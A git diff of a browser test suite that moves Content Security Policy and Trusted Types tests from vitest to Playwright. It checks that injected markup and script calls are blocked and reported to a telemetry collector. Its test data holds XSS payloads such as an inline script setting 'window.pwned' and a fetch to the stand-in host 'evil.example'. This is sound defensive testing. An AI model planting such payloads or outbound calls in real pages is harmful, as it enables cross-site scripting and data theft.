@@ -1,10 +1,10 @@
 // What is not the app's own is stopped by the policy, and its report comes through the tunnel to the collector.
-import type { Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Page } from '@playwright/test';
 
 import type { Fields } from '../collector/decode.ts';
 import type { ReceivedItem } from '../collector/receive.ts';
 import { sdkReady, startSite, type Site, type Visitor } from './telemetry/site.ts';
+import { expect, test } from '../support/test.ts';
 
 declare global {
   interface Window {
@@ -15,10 +15,10 @@ declare global {
 
 let site: Site;
 
-beforeAll(async () => {
+test.beforeAll(async () => {
   site = await startSite();
 });
-afterAll(() => site.stop());
+test.afterAll(() => site.stop());
 
 /** What a browser's own report says, posted at once and alone. */
 const violation = ({ payload }: ReceivedItem) =>
@@ -35,7 +35,7 @@ const reportOf = async (path: string, what: Fields): Promise<Fields> => {
 
 const isPwned = (page: Page) => page.evaluate(() => window.pwned ?? false);
 
-describe('what an attacker put into the page as it is sent', () => {
+test.describe('what an attacker put into the page as it is sent', () => {
   const elsewhere = 'https://evil.example';
   const attacks = [
     ['<script>window.pwned = true; a.long.story()</script>', 'script-src-elem', 'inline'],
@@ -50,7 +50,7 @@ describe('what an attacker put into the page as it is sent', () => {
   ] as const;
   let phone: Visitor;
 
-  beforeAll(async () => {
+  test.beforeAll(async () => {
     phone = await site.phone();
     await phone.page.route('**/jobs', async (route) => {
       const response = await route.fetch();
@@ -60,26 +60,28 @@ describe('what an attacker put into the page as it is sent', () => {
     });
     await phone.page.goto('/jobs');
   });
-  afterAll(() => phone.close());
+  test.afterAll(() => phone.close());
 
-  it.each(attacks)('%s is stopped and reported', async (markup, directive, blocked) => {
-    const what = { 'effective-directive': directive, 'blocked-uri': blocked };
-    const report = await reportOf('/jobs', what);
-    expect(report['disposition']).toBe('enforce');
-    // By its first signs a script is told from that of an extension.
-    if (markup.startsWith('<script>')) {
-      expect(report['script-sample']).toBe('window.pwned = true; a.long.story()');
-    }
-  });
+  for (const [markup, directive, blocked] of attacks) {
+    test(`${markup} is stopped and reported`, async () => {
+      const what = { 'effective-directive': directive, 'blocked-uri': blocked };
+      const report = await reportOf('/jobs', what);
+      expect(report['disposition']).toBe('enforce');
+      // By its first signs a script is told from that of an extension.
+      if (markup.startsWith('<script>')) {
+        expect(report['script-sample']).toBe('window.pwned = true; a.long.story()');
+      }
+    });
+  }
 
-  it('did nothing to the page, which is there and answers', async () => {
+  test('did nothing to the page, which is there and answers', async () => {
     await phone.page.getByRole('link', { name: /^Paint a room/ }).tap();
     await phone.page.getByRole('heading', { level: 1, name: 'Paint a room' }).waitFor();
     expect(await isPwned(phone.page)).toBe(false);
   });
 });
 
-describe('what a script of the page might be tricked into', () => {
+test.describe('what a script of the page might be tricked into', () => {
   const untrusted = 'require-trusted-types-for';
   const element = `document.createElement('script')`;
   const attacks = [
@@ -104,22 +106,24 @@ describe('what a script of the page might be tricked into', () => {
   ] as const;
   let phone: Visitor;
 
-  beforeAll(async () => {
+  test.beforeAll(async () => {
     phone = await site.phone({ serviceWorkers: 'allow' });
     await phone.page.goto('/settings');
     await sdkReady(phone.page);
   });
-  afterAll(() => phone.close());
+  test.afterAll(() => phone.close());
 
-  it.each(attacks)('%s is refused and reported', async (code, directive, sample) => {
-    await expect(phone.page.evaluate(`(async () => { await (${code}); })()`)).rejects.toThrow(
-      'TypeError',
-    );
-    await reportOf('/settings', { 'effective-directive': directive, 'script-sample': sample });
-    expect(await isPwned(phone.page)).toBe(false);
-  });
+  for (const [code, directive, sample] of attacks) {
+    test(`${code} is refused and reported`, async () => {
+      await expect(phone.page.evaluate(`(async () => { await (${code}); })()`)).rejects.toThrow(
+        'TypeError',
+      );
+      await reportOf('/settings', { 'effective-directive': directive, 'script-sample': sample });
+      expect(await isPwned(phone.page)).toBe(false);
+    });
+  }
 
-  it('a call to elsewhere is refused and reported', async () => {
+  test('a call to elsewhere is refused and reported', async () => {
     const tried = phone.page.evaluate(() => fetch('https://evil.example/a?b#c'));
     await expect(tried).rejects.toThrow('Failed to fetch');
     await reportOf('/settings', { 'blocked-uri': 'https://evil.example/a?b' });
@@ -137,8 +141,8 @@ async function askElsewhere(phone: Visitor): Promise<string[]> {
   return sent;
 }
 
-describe('a report of what was stopped', () => {
-  it('goes to a path that names no key', async () => {
+test.describe('a report of what was stopped', () => {
+  test('goes to a path that names no key', async () => {
     const phone = await site.phone();
     const sent = await askElsewhere(phone);
     await reportOf('/jobs', { 'blocked-uri': 'https://evil.example/b' });
@@ -148,7 +152,7 @@ describe('a report of what was stopped', () => {
     await phone.close();
   });
 
-  it('is not sent when reports are switched off', async () => {
+  test('is not sent when reports are switched off', async () => {
     const phone = await site.phone();
     await phone.page.addInitScript(() => localStorage.setItem('measure-twice:reporting', 'off'));
     const sent = await askElsewhere(phone);
